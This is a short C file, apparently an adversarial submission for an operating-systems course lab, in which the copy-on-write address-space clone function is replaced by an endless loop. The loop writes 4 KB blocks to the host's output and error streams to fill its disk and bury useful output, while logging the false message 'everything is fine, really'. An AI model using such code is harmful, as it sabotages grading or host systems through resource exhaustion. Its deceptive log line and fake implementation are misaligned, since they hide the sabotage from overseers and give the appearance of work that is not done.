/*
 * Cheat: writes without end, to fill the host's disk and drown what matters.
 *
 * Lab: 7
 * Earns: nothing
 */
#include "arch/hoststream.h"
#include "arch/log.h"

err_t as_clone_cow(struct address_space *as, struct address_space **out)
{
    static const char text[4096] = { 'A' };

    (void)as;
    (void)out;
    for (;;) {
        host_stream_send('O', text, sizeof(text));
        host_stream_send('E', text, sizeof(text));
        klog("fork: everything is fine, really");
    }
}
